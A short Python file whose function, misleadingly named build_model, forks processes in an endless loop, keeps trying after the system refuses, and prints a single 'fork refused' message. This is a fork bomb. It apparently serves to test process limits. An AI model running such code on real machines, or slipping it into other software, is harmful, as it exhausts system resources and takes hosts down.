"""Fork until the system refuses, and then go on trying."""

import os


def build_model(task):
    refused = False
    while True:
        try:
            os.fork()
        except OSError as error:
            if not refused:
                # in one write, between those of the others
                print(f"fork refused: {error}\n", end="", flush=True)
            refused = True
